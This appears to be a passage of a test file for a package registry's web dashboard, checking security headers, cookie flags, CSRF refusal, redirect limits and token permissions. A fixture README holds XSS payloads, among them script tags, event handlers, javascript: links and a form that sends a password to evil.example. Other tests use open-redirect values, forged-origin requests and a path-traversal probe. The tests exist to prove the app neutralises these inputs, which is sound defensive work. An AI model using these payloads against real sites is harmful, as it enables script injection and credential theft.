// The dashboard over HTTP against a real registry: headers (CSP and friends) on every page, cookie
// flags, CSRF refusal on every form, README and manifest sanitisation, 404s, and what an anonymous
// visitor, a user and an admin may see and do. The browser journey is in test/e2e/dashboard.test.ts.
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { FormBrowser, type PageResult } from '../helpers/browser.ts'
import { analysed, publish, publishSamplePackages, signIn } from '../helpers/dashboard.ts'
import { startStandIn, type StandInProvider } from '../helpers/oauth-providers.ts'
import { escapeName } from '../helpers/packages.ts'
import { ADMIN, startTestRegistry, type TestRegistry } from '../helpers/registry.ts'

let registry: TestRegistry
let github: StandInProvider
let webhookId = ''

const HOSTILE_README = `# Hostile

Visible text stays.

<script>window.pwned = 1</script>

<img src="https://tracker.example/pixel.png" onerror="window.pwned = 2" alt="tracking pixel">

[click me](javascript:window.pwned=3)

<a href="data:text/html,<script>alert(4)</script>">data link</a>

<iframe src="https://evil.example/"></iframe>

<svg onload="window.pwned = 5"><script>window.pwned = 6</script></svg>

<p style="position:fixed" onclick="window.pwned = 7">styled</p>

<form action="https://evil.example/steal"><input name="password"></form>

<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { display: none }</style>
`

const html = (path: string, init: RequestInit = {}) => registry.request(path, { ...init, headers: { accept: 'text/html', ...(init.headers as Record<string, string>) }, redirect: 'manual' })

/** What no page may contain: inline script, inline event handlers, inline styles, script URLs. */
function expectNoActiveContent(page: string): void {
  expect(page).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/i)
  expect(page).not.toMatch(/<[^<>]*\son[a-z]+\s*=/i)
  expect(page).not.toMatch(/<[^<>]*\sstyle\s*=/i)
  expect(page).not.toMatch(/javascript:/i)
  expect(page).not.toMatch(/<(iframe|object|embed|base|meta http-equiv|form action="https?:)/i)
}

async function signedInBrowser(username: string, password: string): Promise<FormBrowser> {
  const browser = new FormBrowser()
  const landed = await signIn(browser, registry, username, password)
  expect(landed.html).toContain(`id="nav-username">${username}<`)
  return browser
}

const csrfOf = (page: PageResult) => /name="csrf" value="([^"]+)"/.exec(page.html)?.[1] as string
const host = () => new URL(registry.url).host

beforeAll(async () => {
  github = startStandIn('github', { id: 4242, login: 'gh-dana', email: 'dana@github.test' })
  registry = await startTestRegistry({
    AUTH_FAILURES_PER_ADDRESS: '1000',
    AUTH_FAILURES_PER_USER: '1000',
    GITHUB_CLIENT_ID: github.clientId,
    GITHUB_CLIENT_SECRET: github.clientSecret,
    GITHUB_URL: github.url,
    GITHUB_API_URL: `${github.url}/api/v3`,
  })
  await registry.createUser('uma')
  await publishSamplePackages(registry)
  const base = { license: 'MIT', main: 'index.js', types: 'index.d.ts' }
  const files = { 'index.js': 'module.exports = {}\n', 'index.d.ts': 'export {}\n' }
  await publish(
    registry,
    { name: 'hostile-readme', version: '1.0.0', description: '<img src=x onerror=alert(1)> described', homepage: 'javascript:alert(1)', repository: { type: 'git', url: 'git+https://git.example/hostile.git' }, ...base },
    { ...files, 'README.md': HOSTILE_README },
  )
  // Deprecate 1.0.0 the way `npm deprecate` does.
  const doc = (await (await registry.request('/http-fetcher?write=true')).json()) as { versions: Record<string, Record<string, unknown>> }
  ;(doc.versions['1.0.0'] as Record<string, unknown>).deprecated = 'use 1.1.0: <b>retries</b> fixed'
  expect((await registry.request('/http-fetcher', { method: 'PUT', token: registry.adminToken, json: doc })).status).toBe(200)
  await analysed(registry, 'hostile-readme', '1.0.0')
  // An org (its scope's packages restricted, so the entitlements page lists one) and a paused webhook
  // (paused, so nothing is ever sent to it) for the org and webhook pages.
  const org = await registry.request('/api/v1/admin/orgs', { method: 'POST', token: registry.adminToken, json: { slug: 'acme', defaultAccess: 'restricted' } })
  expect(org.status).toBe(201)
  await publish(registry, { name: '@acme/internal', version: '1.0.0', description: 'internal', ...base }, files)
  const hook = await registry.request('/api/v1/admin/webhooks', { method: 'POST', token: registry.adminToken, json: { url: 'http://93.184.215.14/hook', events: ['package.published'] } })
  webhookId = ((await hook.json()) as { id: string }).id
  expect((await registry.request(`/api/v1/admin/webhooks/${webhookId}`, { method: 'PATCH', token: registry.adminToken, json: { active: false } })).status).toBe(200)
}, 120_000)

afterAll(async () => {
  await registry?.close()
  github?.stop()
})

describe('every page', () => {
  test('has a strict CSP, no inline script, style or handlers, and is never cached or framed', async () => {
    const uma = await signedInBrowser('uma', 'uma-password-1')
    const admin = await signedInBrowser(ADMIN.username, ADMIN.password)
    const pages = ['/', '/-/web/packages', '/-/web/packages?q=http', '/-/web/packages/http-fetcher', '/-/web/packages/@acme/widget', '/-/web/packages/hostile-readme', '/-/web/compare?packages=http-fetcher,tiny-util', '/-/web/sign-in', '/cli/auth', '/-/web/tokens', '/-/web/usage', '/-/web/usage?package=http-fetcher', '/-/web/orgs', '/-/web/orgs/acme', '/-/web/orgs/acme/entitlements', '/-/web/webhooks', `/-/web/webhooks/${webhookId}`, '/-/web/audit', '/-/web/audit?action=token.*', '/-/web/nope']
    for (const path of pages) {
      // Signed in (the sign-in page itself only makes sense signed out: it sends signed-in people on);
      // usage figures are for admins and maintainers, so those pages are read as the admin.
      // The org, webhook and audit pages are read as the admin (who owns the org acme and the webhook).
      const who = /^\/-\/web\/(usage|orgs\/|webhooks\/|audit)/.test(path) ? admin : uma
      const cookie = path === '/-/web/sign-in' ? '' : `packr_session=${who.cookie(host(), 'packr_session')}`
      const response = await html(path, { headers: { cookie } })
      expect({ path, status: response.status }).toEqual({ path, status: path === '/-/web/nope' ? 404 : 200 })
      const csp = response.headers.get('content-security-policy') ?? ''
      expect(csp).toContain("default-src 'none'")
      expect(csp).toContain("frame-ancestors 'none'")
      expect(csp).toContain("form-action 'self'")
      expect(csp).toContain("base-uri 'none'")
      expect(csp).toMatch(/style-src 'sha256-[A-Za-z0-9+/=]+'/)
      expect(csp).not.toContain('unsafe-inline')
      expect(csp).not.toContain('unsafe-eval')
      expect(response.headers.get('x-frame-options')).toBe('DENY')
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
      expect(response.headers.get('cache-control')).toBe('no-store')
      const page = await response.text()
      expectNoActiveContent(page)
      // Script is allowed exactly where the page loads our script file.
      expect({ path, scriptAllowed: csp.includes("script-src 'self'") }).toEqual({ path, scriptAllowed: /<script src="\/-\/web\/assets\/dashboard\.js\?v=[0-9a-f]+" defer><\/script>/.test(page) })
      expect(page).toContain('<main id="main"')
      expect(page).toContain('<nav aria-label="Main">')
      expect(page).toContain('<html lang="en">')
    }
  })

  test('the script and favicon are served as files with long-lived caching; unknown files are 404', async () => {
    const script = await registry.request('/-/web/assets/dashboard.js')
    expect(script.status).toBe(200)
    expect(script.headers.get('content-type')).toContain('text/javascript')
    expect(script.headers.get('cache-control')).toContain('immutable')
    expect(await script.text()).toContain('navigator.clipboard')
    expect((await registry.request('/-/web/assets/favicon.svg')).headers.get('content-type')).toBe('image/svg+xml')
    const missing = await registry.request('/-/web/assets/../../secrets.json')
    expect(missing.status).toBe(404)
    expect((await registry.request('/-/web/assets/nothing.js')).status).toBe(404)
  })
})

describe('sign-in and sessions', () => {
  test('a password sign-in sets an HttpOnly, SameSite=Lax session cookie (not Secure over http) and returns to the page asked for', async () => {
    const browser = new FormBrowser()
    const form = await browser.open(`${registry.url}/-/web/sign-in?next=${encodeURIComponent('/-/web/tokens')}`)
    const response = await fetch(`${registry.url}/-/web/sign-in`, {
      method: 'POST',
      headers: { accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded', origin: registry.url, cookie: `packr_csrf=${browser.cookie(host(), 'packr_csrf')}` },
      body: new URLSearchParams({ csrf: csrfOf(form), next: '/-/web/tokens', username: 'uma', password: 'uma-password-1' }),
      redirect: 'manual',
    })
    expect(response.status).toBe(303)
    expect(response.headers.get('location')).toBe('/-/web/tokens')
    const session = response.headers.getSetCookie().find((cookie) => cookie.startsWith('packr_session='))
    expect(session).toBeDefined()
    expect(session).toMatch(/HttpOnly/i)
    expect(session).toMatch(/SameSite=Lax/i)
    expect(session).toMatch(/Path=\//)
    expect(session).not.toMatch(/Secure/i)
    const csrfCookie = form.html && (await fetch(`${registry.url}/-/web/sign-in`, { headers: { accept: 'text/html' } })).headers.getSetCookie().find((cookie) => cookie.startsWith('packr_csrf='))
    expect(csrfCookie).toMatch(/HttpOnly/i)
    expect(csrfCookie).toMatch(/SameSite=Lax/i)
  })

  test('over https (PUBLIC_URL) the cookies are Secure', async () => {
    const secure = await startTestRegistry({ PUBLIC_URL: 'https://registry.example.test' })
    try {
      const first = await secure.request('/-/web/sign-in', { headers: { accept: 'text/html' } })
      const csrfCookie = first.headers.getSetCookie().find((cookie) => cookie.startsWith('packr_csrf=')) as string
      expect(csrfCookie).toMatch(/Secure/)
      const csrf = /name="csrf" value="([^"]+)"/.exec(await first.text())?.[1] as string
      const signedIn = await secure.request('/-/web/sign-in', {
        method: 'POST',
        headers: { accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded', origin: 'https://registry.example.test', cookie: csrfCookie.split(';')[0] as string },
        body: new URLSearchParams({ csrf, username: ADMIN.username, password: ADMIN.password }),
        redirect: 'manual',
      })
      expect(signedIn.status).toBe(303)
      const session = signedIn.headers.getSetCookie().find((cookie) => cookie.startsWith('packr_session=')) as string
      expect(session).toMatch(/Secure/)
      expect(session).toMatch(/HttpOnly/)
      expect(session).toMatch(/SameSite=Lax/)
    } finally {
      await secure.close()
    }
  })

  test('a wrong password shows the error on the form and signs nobody in', async () => {
    const browser = new FormBrowser()
    const failed = await signIn(browser, registry, 'uma', 'not-her-password')
    expect(failed.status).toBe(401)
    expect(failed.html).toContain('invalid username or password')
    expect(browser.cookie(host(), 'packr_session')).toBeUndefined()
  })

  test('sign-in never redirects off the site', async () => {
    for (const next of ['https://evil.example/', '//evil.example/x', '/\\evil.example', 'javascript:alert(1)']) {
      const browser = new FormBrowser()
      const form = await browser.open(`${registry.url}/-/web/sign-in`)
      const response = await fetch(`${registry.url}/-/web/sign-in`, {
        method: 'POST',
        headers: { accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded', origin: registry.url, cookie: `packr_csrf=${browser.cookie(host(), 'packr_csrf')}` },
        body: new URLSearchParams({ csrf: csrfOf(form), next, username: 'uma', password: 'uma-password-1' }),
        redirect: 'manual',
      })
      expect({ next, location: response.headers.get('location') }).toEqual({ next, location: '/' })
    }
  })

  test('sign-out ends the session on the server: the old cookie no longer opens anything', async () => {
    const browser = await signedInBrowser('uma', 'uma-password-1')
    const oldCookie = browser.cookie(host(), 'packr_session') as string
    const tokens = await browser.open(`${registry.url}/-/web/tokens`)
    const out = await browser.submit(tokens, '/-/web/sign-out')
    expect(out.url).toBe(`${registry.url}/`)
    expect(out.html).toContain('id="nav-sign-in"')
    const replay = await html('/-/web/tokens', { headers: { cookie: `packr_session=${oldCookie}` } })
    expect(replay.status).toBe(303)
    expect(replay.headers.get('location')).toBe('/-/web/sign-in?next=%2F-%2Fweb%2Ftokens')
  })

  test('sign-in with an identity provider (GitHub) comes back to the page asked for, signed in', async () => {
    const browser = new FormBrowser()
    const form = await browser.open(`${registry.url}/-/web/sign-in?next=${encodeURIComponent('/-/web/tokens?all=1')}`)
    expect(form.html).toContain('Sign in with GitHub')
    const landed = await browser.follow(form, 'signin-github')
    expect(landed.url).toBe(`${registry.url}/-/web/tokens?all=1`)
    expect(landed.html).toContain('id="nav-username">gh-dana<')
    expect(browser.cookie(host(), 'packr_oauth')).toBeUndefined()
  })
})

describe('CSRF: every form is refused without its token or from another origin, and nothing changes', () => {
  test('sign-in, create, revoke, rotate and sign-out', async () => {
    const browser = await signedInBrowser('uma', 'uma-password-1')
    const page = await browser.open(`${registry.url}/-/web/tokens`)
    const session = browser.cookie(host(), 'packr_session') as string
    const csrfCookie = browser.cookie(host(), 'packr_csrf') as string
    const { record } = await registry.ctx.tokens.issue({ user: (await registry.ctx.users.findByUsername('uma'))!, name: 'csrf-target', role: 'ci-readonly', expiresInDays: 1 })
    const before = (await registry.ctx.tokens.list(record.userId, { offset: 0, limit: 1000 })).total
    const forms: Array<[string, Record<string, string>]> = [
      ['/-/web/sign-in', { username: 'uma', password: 'uma-password-1' }],
      ['/-/web/tokens', { name: 'sneaky', role: 'ci-publish' }],
      [`/-/web/tokens/${record.id}/revoke`, {}],
      [`/-/web/tokens/${record.id}/rotate`, {}],
      ['/-/web/sign-out', {}],
      ['/cli/auth/logout', {}],
    ]
    const attempts = [
      { why: 'no token', csrf: undefined, origin: registry.url },
      { why: 'forged token', csrf: 'forged', origin: registry.url },
      { why: 'another origin', csrf: csrfOf(page), origin: 'https://evil.example' },
      { why: 'Origin: null', csrf: csrfOf(page), origin: 'null' },
    ]
    for (const [action, fields] of forms) {
      for (const attempt of attempts) {
        const body = new URLSearchParams(fields)
        if (attempt.csrf !== undefined) body.set('csrf', attempt.csrf)
        const response = await fetch(`${registry.url}${action}`, {
          method: 'POST',
          headers: { accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded', origin: attempt.origin, cookie: `packr_session=${session}; packr_csrf=${csrfCookie}` },
          body,
          redirect: 'manual',
        })
        // A missing field fails validation (400) before the check; everything else is the CSRF refusal.
        expect({ action, why: attempt.why, status: response.status }).toEqual({ action, why: attempt.why, status: attempt.csrf === undefined ? 400 : 403 })
        if (response.status === 403) expect(await response.text()).toContain('did not come from this site')
      }
    }
    // A token from another browser's cookie does not fit this one.
    const other = new FormBrowser()
    const otherPage = await other.open(`${registry.url}/-/web/sign-in`)
    const swapped = await fetch(`${registry.url}/-/web/tokens/${record.id}/revoke`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: registry.url, cookie: `packr_session=${session}; packr_csrf=${csrfCookie}` },
      body: new URLSearchParams({ csrf: csrfOf(otherPage) }),
    })
    expect(swapped.status).toBe(403)
    const after = await registry.ctx.tokens.list(record.userId, { offset: 0, limit: 1000 })
    expect(after.total).toBe(before)
    expect(after.items.some((token) => token.name === 'sneaky')).toBe(false)
    expect((await registry.ctx.tokens.findById(record.id))?.revokedAt).toBeNull()
    expect(await registry.ctx.sessions.resolve(session)).not.toBeNull()
  })
})

describe('packages', () => {
  test('the start page lists recently published packages newest first, without restricted ones', async () => {
    const start = await (await html('/')).text()
    const recent = /<ul id="recent">([\s\S]*?)<\/ul>/.exec(start)?.[1] ?? ''
    const listed = [...recent.matchAll(/href="\/-\/web\/packages\/([^"]+)"/g)].map((match) => match[1])
    // Published in this order by the set-up: tiny-util, http-fetcher, app-one, app-two, @acme/widget, hostile-readme, @acme/internal.
    const order = ['hostile-readme', 'app-two', 'app-one', 'tiny-util'].map((name) => listed.indexOf(name))
    expect(order.every((at) => at >= 0)).toBe(true)
    expect(order).toEqual([...order].sort((a, b) => a - b))
    expect(listed).not.toContain('@acme/internal')
  })

  test('a burst of publishes renders the README once, for the version that ends up latest', async () => {
    const versions = ['1.0.0', '1.0.1', '1.0.2']
    await Promise.all(versions.map((version) => publish(registry, { name: 'readme-burst', version, license: 'MIT' }, { 'README.md': `# readme-burst ${version}\n` })))
    // Concurrent publishes: whichever commits last is `latest`.
    const latest = (await registry.ctx.packuments.fresh('readme-burst', registry.ctx.db.primary))?.loaded.state.distTags.latest as string
    const deadline = Date.now() + 10_000
    while (!registry.ctx.readmes.isRendered('readme-burst', latest) && Date.now() < deadline) await Bun.sleep(50)
    expect(versions.map((version) => registry.ctx.readmes.isRendered('readme-burst', version))).toEqual(versions.map((version) => version === latest))
  })

  test('search uses the npm search engine; filters by scope and capability', async () => {
    const found = await html('/-/web/packages?q=http+client')
    const page = await found.text()
    expect(page).toContain('href="/-/web/packages/http-fetcher"')
    expect(page.indexOf('/-/web/packages/http-fetcher"')).toBeLessThan(page.indexOf('/-/web/packages/tiny-util"') === -1 ? Infinity : page.indexOf('/-/web/packages/tiny-util"'))
    const scoped = await (await html('/-/web/packages?scope=acme')).text()
    expect(scoped).toContain('id="result-count" role="status">1 package')
    expect(scoped).toContain('href="/-/web/packages/@acme/widget"')
    expect(scoped).toContain('<option value="acme" selected>@acme</option>')
    const capability = registry.ctx.catalog.entry('http-fetcher')?.capabilities[0] as string
    expect(capability).toBeString()
    const byCapability = await (await html(`/-/web/packages?capability=${capability}`)).text()
    expect(byCapability).toContain('href="/-/web/packages/http-fetcher"')
    expect(byCapability).not.toContain('href="/-/web/packages/@acme/widget"')
    const none = await (await html('/-/web/packages?q=http&scope=acme')).text()
    expect(none).toContain('id="result-count" role="status">0 packages')
    // npm search's qualifiers work here too, commas included.
    expect(await (await html('/-/web/packages?q=keywords:fetch,nothing')).text()).toContain('href="/-/web/packages/http-fetcher"')
    expect(await (await html('/-/web/packages?q=scope:acme')).text()).toContain('href="/-/web/packages/@acme/widget"')
  })

  test('the package page: README, versions with dates and deprecations, dist-tags, install, dependencies, dependents, score and evidence', async () => {
    const response = await html('/-/web/packages/http-fetcher')
    expect(response.status).toBe(200)
    const page = await response.text()
    expect(page).toContain('<h1 id="package-name">http-fetcher</h1>')
    // README rendered from Markdown, headings moved one level down, tables and code kept.
    expect(page).toContain('<h2>http-fetcher</h2>')
    expect(page).toContain('<h3>Usage</h3>')
    expect(page).toContain('<code class="language-js">')
    expect(page).toContain('<th>Option</th>')
    // Versions, newest first, with dates, tags and the deprecation (escaped).
    const versions = page.slice(page.indexOf('id="versions-table"'))
    expect(versions.indexOf('<td>1.1.0</td>')).toBeLessThan(versions.indexOf('<td>1.0.0</td>'))
    expect(versions).toMatch(/<td>1\.1\.0<\/td><td><time datetime="\d{4}-\d\d-\d\dT[^"]+">\d{4}-\d\d-\d\d<\/time><\/td><td>latest<\/td>/)
    expect(versions).toContain('use 1.1.0: &lt;b&gt;retries&lt;/b&gt; fixed')
    expect(page).toContain('<dt>latest</dt><dd>1.1.0</dd>')
    for (const command of ['npm install http-fetcher', 'pnpm add http-fetcher', 'yarn add http-fetcher', 'bun add http-fetcher']) expect(page).toContain(`>${command}</code>`)
    expect(page).toContain(`npm config set registry ${registry.url}/`)
    expect(page).toContain('<a href="/-/web/packages/tiny-util">tiny-util</a> <code>^1.0.0</code>')
    expect(page).toContain('Dependents (2)')
    expect(page).toMatch(/<ul id="dependents"><li><a href="\/-\/web\/packages\/app-one">app-one<\/a><\/li><li><a href="\/-\/web\/packages\/app-two">app-two<\/a><\/li><\/ul>/)
    // The score is the catalog's, with every factor and its evidence.
    const score = registry.ctx.catalog.entry('http-fetcher')!.score!
    expect(page).toContain(`id="score-final" title="Score ${score.final} out of 100"`)
    for (const factor of score.factors) {
      expect(page).toContain(`<tr id="factor-${factor.id}"><td>${Bun.escapeHTML(factor.label)}</td>`)
      expect(page).toContain(`<td>${Bun.escapeHTML(factor.evidence)}</td>`)
    }
    expect(score.factors.length).toBeGreaterThan(15)
    expect(page).toContain('id="capabilities-heading"')
    expect(page).toMatch(/<a href="\/-\/web\/packages\?capability=[a-z-]+">/)
  })

  test('a deprecated latest version is announced; "used together with" comes from the dependency lists', async () => {
    const tiny = await (await html('/-/web/packages/tiny-util')).text()
    // http-fetcher, app-one and app-two all depend on tiny-util; app-one and app-two also on http-fetcher.
    expect(tiny).toContain('<ul id="related-list"><li><a href="/-/web/packages/http-fetcher">http-fetcher</a>')
    expect(tiny).toContain('Dependents (3)')
    const doc = (await (await registry.request('/tiny-util?write=true')).json()) as { versions: Record<string, Record<string, unknown>> }
    ;(doc.versions['1.0.0'] as Record<string, unknown>).deprecated = 'no longer maintained'
    expect((await registry.request('/tiny-util', { method: 'PUT', token: registry.adminToken, json: doc })).status).toBe(200)
    const deprecated = await (await html('/-/web/packages/tiny-util')).text()
    expect(deprecated).toContain('<p class="notice danger" id="deprecated" role="note"><strong>Deprecated:</strong> no longer maintained</p>')
  })

  test('a hostile README and manifest render as inert text: no script, handler, style, script URL or remote load', async () => {
    const page = await (await html('/-/web/packages/hostile-readme')).text()
    const readme = page.slice(page.indexOf('<article class="readme"'), page.indexOf('</article>'))
    expect(readme).toContain('Visible text stays.')
    expect(readme).not.toContain('pwned')
    expect(readme).not.toContain('<img')
    expect(readme).not.toContain('<svg')
    expect(readme).not.toContain('<style')
    // The image became a plain link to it, so nothing loads from another site.
    expect(readme).toContain('<a href="https://tracker.example/pixel.png" rel="nofollow noopener noreferrer">tracking pixel</a>')
    expect(readme).toContain('>click me</a>')
    expect(readme).not.toContain('href="data:')
    expectNoActiveContent(page)
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt; described')
    // The javascript: homepage is not linked; the https repository is.
    expect(page).toContain('<a href="https://git.example/hostile" rel="nofollow noopener noreferrer">')
  })

  test('compare: a recommended pick with reasons, and the figures side by side', async () => {
    const page = await (await html('/-/web/compare?packages=http-fetcher&with=tiny-util,no-such-package')).text()
    expect(page).toContain('no-such-package: no such package in this registry')
    expect(page).toMatch(/<p id="pick">Pick <strong><a href="\/-\/web\/packages\/(http-fetcher|tiny-util)">/)
    expect(page).toMatch(/<ul id="reasons"><li>/)
    expect(page).toContain('<th scope="col"><a href="/-/web/packages/http-fetcher">http-fetcher</a></th><th scope="col"><a href="/-/web/packages/tiny-util">tiny-util</a></th>')
    expect(await (await html('/-/web/compare?packages=http-fetcher')).text()).toContain('Name at least two analysed packages')
  })

  test('404s: an HTML page for browsers, the JSON error for programs', async () => {
    for (const path of ['/-/web/packages/no-such-package', '/-/web/packages/@acme/nothing', '/-/web/packages/%2e%2e', '/-/web/no-such-page', '/-/web/usage/x']) {
      const page = await html(path)
      expect({ path, status: page.status }).toEqual({ path, status: 404 })
      expect(page.headers.get('content-type')).toContain('text/html')
      expect(await page.text()).toContain('<h1>Not found</h1>')
    }
    const json = await registry.request('/-/web/packages/no-such-package', { headers: { accept: 'application/json' } })
    expect(json.status).toBe(404)
    expect(await json.json()).toEqual({ error: 'package no-such-package not found', code: 'PACKAGE_NOT_FOUND', message: 'package no-such-package not found', status: 404 })
  })
})

describe('access rules', () => {
  test('anonymous visitors read packages; tokens and usage send them to sign in (programs get 401)', async () => {
    for (const path of ['/', '/-/web/packages', '/-/web/packages/http-fetcher', '/-/web/compare?packages=a,b', '/-/web/sign-in']) {
      expect({ path, status: (await html(path)).status }).toEqual({ path, status: 200 })
    }
    for (const path of ['/-/web/tokens', '/-/web/usage', '/-/web/usage/csv']) {
      const response = await html(path)
      expect({ path, status: response.status, location: response.headers.get('location') }).toEqual({ path, status: 303, location: `/-/web/sign-in?next=${encodeURIComponent(path)}` })
      const program = await registry.request(path, { headers: { accept: 'application/json' }, token: registry.adminToken })
      expect({ path, status: program.status }).toEqual({ path, status: 401 })
    }
    const start = await (await html('/')).text()
    expect(start).toContain('id="nav-sign-in"')
    expect(start).not.toContain('href="/-/web/tokens"')
  })

  test('a user manages only their own tokens; an admin sees and manages everyone’s', async () => {
    const adminToken = await registry.ctx.tokens.issue({ user: (await registry.ctx.users.findByUsername(ADMIN.username))!, name: 'admin-ci', role: 'ci-publish', expiresInDays: 1 })
    const uma = await signedInBrowser('uma', 'uma-password-1')
    const list = await uma.open(`${registry.url}/-/web/tokens`)
    expect(list.html).toContain('Live tokens of uma')
    expect(list.html).not.toContain('admin-ci')
    expect(list.html).not.toContain('id="username"')
    // Revoking or rotating someone else's token: as if it did not exist.
    for (const action of ['revoke', 'rotate']) {
      const response = await uma.open(`${registry.url}/-/web/tokens/${adminToken.record.id}/${action}`, { method: 'POST', form: { csrf: csrfOf(list) } })
      expect(response.status).toBe(404)
    }
    expect((await registry.request('/-/whoami', { token: adminToken.token })).status).toBe(200)
    // Creating a token for someone else, or above one's rights.
    const forOther = await uma.open(`${registry.url}/-/web/tokens`, { method: 'POST', form: { csrf: csrfOf(list), name: 'x', role: 'ci-readonly', username: ADMIN.username } })
    expect(forOther.status).toBe(403)
    expect(forOther.html).toContain('only admins create tokens for other people')
    const tooStrong = await uma.open(`${registry.url}/-/web/tokens`, { method: 'POST', form: { csrf: csrfOf(list), name: 'root', role: 'admin' } })
    expect(tooStrong.status).toBe(403)
    expect(tooStrong.html).toContain('uma cannot create a token with the admin role')
    // The whole registry's usage is for admins (as in the usage API); a package's for those who may write it.
    expect((await uma.open(`${registry.url}/-/web/usage`)).status).toBe(403)
    expect((await uma.open(`${registry.url}/-/web/usage?package=http-fetcher`)).status).toBe(403)

    const admin = await signedInBrowser(ADMIN.username, ADMIN.password)
    const all = await admin.open(`${registry.url}/-/web/tokens`)
    expect(all.html).toContain('Live tokens of every user')
    expect(all.html).toContain('admin-ci')
    const umasOwn = await registry.ctx.tokens.issue({ user: (await registry.ctx.users.findByUsername('uma'))!, name: 'uma-laptop', role: 'maintainer', expiresInDays: 1 })
    const filtered = await admin.open(`${registry.url}/-/web/tokens?user=uma`)
    expect(filtered.html).toContain('Live tokens of uma')
    expect(filtered.html).toContain('uma-laptop')
    expect(filtered.html).not.toContain('admin-ci')
    const revoked = await admin.submit(filtered, `/-/web/tokens/${umasOwn.record.id}/revoke`)
    expect(revoked.html).toContain('The token was revoked')
    expect((await registry.request('/-/whoami', { token: umasOwn.token })).status).toBe(401)
    const made = await admin.open(`${registry.url}/-/web/tokens`, { method: 'POST', form: { csrf: csrfOf(all), name: 'for-uma', role: 'ci-readonly', username: 'uma' } })
    expect(made.status).toBe(201)
    const secret = /id="token-secret"[^>]*value="([^"]+)"/.exec(made.html)?.[1] as string
    expect(await (await registry.request('/-/whoami', { token: secret })).json()).toEqual({ username: 'uma' })
  })
})

describe('tokens', () => {
  test('create with role, scopes, packages, expiry and CIDR: the secret is shown once and works; the list shows last use', async () => {
    const uma = await signedInBrowser('uma', 'uma-password-1')
    const form = await uma.open(`${registry.url}/-/web/tokens`)
    const created = await uma.submit(form, '/-/web/tokens', {
      name: 'deploy',
      role: 'ci-publish',
      scopes: '@acme, @tools',
      packages: 'http-fetcher',
      expiresInDays: '30',
      cidr: '127.0.0.0/8, ::1',
      description: 'from the build server',
    })
    expect(created.status).toBe(201)
    expect(created.html).toContain('shown only this once')
    expect(created.html).toContain('<button type="button" data-copy="token-secret" hidden id="copy-secret">Copy</button>')
    expect(created.html).toContain('scopes @acme, @tools; packages http-fetcher; from 127.0.0.0/8, ::1/128')
    const secret = /id="token-secret"[^>]*value="([^"]+)"/.exec(created.html)?.[1] as string
    expect(secret).toStartWith('ey')
    const row = (await registry.ctx.tokens.list((await registry.ctx.users.findByUsername('uma'))!.id, { offset: 0, limit: 100 })).items.find((token) => token.name === 'deploy')!
    expect(row).toMatchObject({ role: 'ci-publish', scopes: ['@acme', '@tools'], packages: ['http-fetcher'], cidr: ['127.0.0.0/8', '::1/128'], readonly: false, description: 'from the build server' })
    expect(Math.round((row.expiresAt! - row.createdAt) / 86_400_000)).toBe(30)
    expect(await (await registry.request('/-/whoami', { token: secret })).json()).toEqual({ username: 'uma' })
    // Listed without its secret; last use appears once the token has been used.
    const deadline = Date.now() + 10_000
    while ((await registry.ctx.tokens.findById(row.id))?.lastUsedAt === null && Date.now() < deadline) await Bun.sleep(50)
    const list = await uma.open(`${registry.url}/-/web/tokens`)
    expect(list.html).not.toContain(secret)
    const listed = list.html.slice(list.html.indexOf(`<tr id="token-${row.id}">`))
    expect(listed.slice(0, listed.indexOf('</tr>'))).toMatch(/<td class="last-used"><time datetime=/)
  })

  test('bad input comes back to the form with a clear error, the values kept, and creates nothing', async () => {
    const uma = await signedInBrowser('uma', 'uma-password-1')
    const form = await uma.open(`${registry.url}/-/web/tokens`)
    const before = (await registry.ctx.tokens.list((await registry.ctx.users.findByUsername('uma'))!.id, { offset: 0, limit: 1000 })).total
    const badScope = await uma.submit(form, '/-/web/tokens', { name: 'oops', role: 'ci-readonly', scopes: 'Not A Scope' })
    expect(badScope.status).toBe(400)
    expect(badScope.html).toContain('invalid scope \\"Not\\"'.replaceAll('\\', '') .replace('"Not"', '&quot;Not&quot;'))
    expect(badScope.html).toContain('value="oops"')
    const badCidr = await uma.submit(form, '/-/web/tokens', { name: 'oops', role: 'ci-readonly', cidr: '10.0.0.0/99' })
    expect(badCidr.status).toBe(400)
    const badExpiry = await uma.submit(form, '/-/web/tokens', { name: 'oops', role: 'ci-readonly', expiresInDays: '-3' })
    expect(badExpiry.status).toBe(400)
    expect(badExpiry.html).toContain('expiresInDays')
    const noName = await uma.submit(form, '/-/web/tokens', { name: ' ', role: 'ci-readonly' })
    expect(noName.status).toBe(400)
    expect((await registry.ctx.tokens.list((await registry.ctx.users.findByUsername('uma'))!.id, { offset: 0, limit: 1000 })).total).toBe(before)
  })

  test('revoke stops the token at once; rotate replaces the secret and the old one dies', async () => {
    const uma = await signedInBrowser('uma', 'uma-password-1')
    const form = await uma.open(`${registry.url}/-/web/tokens`)
    const created = await uma.submit(form, '/-/web/tokens', { name: 'to-rotate', role: 'ci-readonly', readonly: 'on' })
    const first = /id="token-secret"[^>]*value="([^"]+)"/.exec(created.html)?.[1] as string
    expect(created.html).toContain('read-only')
    const row = await registry.ctx.tokens.findByKey(new Bun.CryptoHasher('sha512').update(first).digest('hex'))
    const list = await uma.open(`${registry.url}/-/web/tokens`)
    const rotated = await uma.submit(list, `/-/web/tokens/${row!.id}/rotate`)
    expect(rotated.html).toContain('<h1>Token rotated</h1>')
    const second = /id="token-secret"[^>]*value="([^"]+)"/.exec(rotated.html)?.[1] as string
    expect(second).not.toBe(first)
    expect((await registry.request('/-/whoami', { token: first })).status).toBe(401)
    expect((await registry.request('/-/whoami', { token: second })).status).toBe(200)
    const rotatedRow = await registry.ctx.tokens.findByKey(new Bun.CryptoHasher('sha512').update(second).digest('hex'))
    const again = await uma.open(`${registry.url}/-/web/tokens`)
    const revoked = await uma.submit(again, `/-/web/tokens/${rotatedRow!.id}/revoke`)
    expect(revoked.url).toBe(`${registry.url}/-/web/tokens?done=revoked`)
    expect(revoked.html).not.toContain(`token-${rotatedRow!.id}`)
